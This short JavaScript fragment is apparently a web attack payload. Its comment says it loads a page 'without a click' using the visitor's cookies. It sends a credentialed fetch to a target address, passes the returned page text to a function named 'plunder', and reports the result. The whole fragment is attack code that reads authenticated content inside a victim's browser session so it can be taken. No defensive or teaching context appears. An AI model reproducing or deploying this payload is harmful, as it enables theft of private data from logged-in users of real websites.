// Without a click: the page by fetch, with the visitor's cookies.
"use strict";
fetch(target, { credentials: "include" })
  .then(async (answer) => {
    if (answer.ok) {
      await plunder(await answer.text());
    }
    finish(answer.status);
  })
  .catch((error) => finish(error.name));
